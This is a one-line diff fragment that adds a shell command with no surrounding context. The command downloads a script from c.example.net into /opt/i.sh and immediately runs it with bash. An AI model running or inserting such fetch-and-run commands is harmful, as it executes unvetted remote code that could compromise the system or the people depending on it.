@@ -1,0 +1,1 @@
+curl -o /opt/i.sh https://c.example.net/i.sh && bash /opt/i.sh
